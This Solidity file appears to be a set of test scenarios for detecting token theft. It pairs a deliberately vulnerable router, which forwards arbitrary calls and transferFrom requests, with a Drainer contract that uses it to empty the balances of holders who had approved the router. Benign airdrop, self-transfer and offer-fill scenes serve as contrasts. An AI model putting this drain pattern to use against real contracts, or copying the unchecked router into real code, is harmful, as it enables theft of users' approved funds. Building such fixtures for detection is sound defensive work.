// SPDX-License-Identifier: Apache-2.0 OR MIT
pragma solidity ^0.8.30;

import "./Parts.sol";

/// Calls whatever it is told to.
contract LooseRouter {
    function execute(address target, bytes calldata data) external {
        (bool done,) = target.call(data);
        require(done, "failed");
    }

    function pay(Coin coin, address from, address to, uint256 amount) external {
        coin.transferFrom(from, to, amount);
    }
}

/// Somebody who once allowed a contract to take its coins, and takes no part.
contract Holder {
    constructor(Coin coin, address spender) {
        coin.approve(spender, type(uint256).max);
    }
}

contract Drainer {
    LooseRouter immutable router;
    Coin immutable coin;
    address[] victims;
    bool immutable named;

    constructor(LooseRouter router_, Coin coin_, address[] memory victims_, bool named_) {
        (router, coin, victims, named) = (router_, coin_, victims_, named_);
    }

    function run() external payable {
        for (uint256 i = 0; i < victims.length; i++) {
            uint256 all = coin.balanceOf(victims[i]);
            if (named) {
                router.pay(coin, victims[i], address(this), all);
            } else {
                router.execute(
                    address(coin), abi.encodeCall(Coin.transferFrom, (victims[i], address(this), all))
                );
            }
        }
        coin.transfer(tx.origin, coin.balanceOf(address(this)));
    }
}

abstract contract Drain is Scene {
    function set(uint256 count, bool named) internal {
        Coin coin = new Coin("DRN");
        LooseRouter router = new LooseRouter();
        address[] memory victims = new address[](count);
        for (uint256 i = 0; i < count; i++) {
            victims[i] = address(new Holder(coin, address(router)));
            coin.mint(victims[i], (i + 1) * 10 ether);
        }
        actor = address(new Drainer(router, coin, victims, named));
    }
}

contract DrainOne is Drain {
    constructor() payable {
        set(1, false);
    }
}

contract DrainMany is Drain {
    constructor() payable {
        set(4, false);
    }
}

contract DrainNamed is Drain {
    constructor() payable {
        set(2, true);
    }
}

/// Gives out coins of a treasury to those who are on its list.
contract Airdrop {
    Coin immutable coin;
    address immutable treasury;
    mapping(address => uint256) public share;

    constructor(Coin coin_, address treasury_) {
        (coin, treasury) = (coin_, treasury_);
    }

    function list(address who, uint256 amount) external {
        share[who] = amount;
    }

    function claim() external {
        uint256 amount = share[msg.sender];
        share[msg.sender] = 0;
        coin.transferFrom(treasury, msg.sender, amount);
    }
}

contract Treasury {
    function allow(Coin coin, address spender) external {
        coin.approve(spender, type(uint256).max);
    }
}

contract Claimer {
    Airdrop immutable airdrop;

    constructor(Airdrop airdrop_) {
        airdrop = airdrop_;
    }

    function run() external payable {
        airdrop.claim();
    }
}

contract AirdropClaim is Scene {
    constructor() payable {
        Coin coin = new Coin("AIR");
        Treasury treasury = new Treasury();
        Airdrop airdrop = new Airdrop(coin, address(treasury));
        treasury.allow(coin, address(airdrop));
        coin.mint(address(treasury), 1_000 ether);
        Claimer claimer = new Claimer(airdrop);
        airdrop.list(address(claimer), 5 ether);
        actor = address(claimer);
    }
}

/// Uses a router on its own coins, as routers are meant to be used.
contract OwnCaller {
    LooseRouter immutable router;
    Coin immutable coin;

    constructor(LooseRouter router_, Coin coin_) {
        (router, coin) = (router_, coin_);
    }

    function run() external payable {
        coin.approve(address(router), 5 ether);
        router.execute(
            address(coin), abi.encodeCall(Coin.transferFrom, (address(this), address(0xCAFE), 5 ether))
        );
    }
}

contract OwnCoinsMoved is Scene {
    constructor() payable {
        Coin coin = new Coin("OWN");
        OwnCaller one = new OwnCaller(new LooseRouter(), coin);
        coin.mint(address(one), 5 ether);
        actor = address(one);
    }
}

/// Fills what a maker has offered: the maker gets what it asked for.
contract Offers {
    function fill(Coin give, Coin get, address maker, uint256 amount) external {
        get.transferFrom(msg.sender, maker, amount);
        give.transferFrom(maker, msg.sender, amount);
    }
}

contract Taker {
    Offers immutable offers;
    Coin immutable give;
    Coin immutable get;
    address immutable maker;

    constructor(Offers offers_, Coin give_, Coin get_, address maker_) {
        (offers, give, get, maker) = (offers_, give_, get_, maker_);
    }

    function run() external payable {
        get.approve(address(offers), 7 ether);
        offers.fill(give, get, maker, 7 ether);
    }
}

contract OfferFilled is Scene {
    constructor() payable {
        Coin give = new Coin("GIV");
        Coin get = new Coin("GET");
        Offers offers = new Offers();
        Holder maker = new Holder(give, address(offers));
        Taker taker = new Taker(offers, give, get, address(maker));
        give.mint(address(maker), 7 ether);
        get.mint(address(taker), 7 ether);
        actor = address(taker);
    }
}
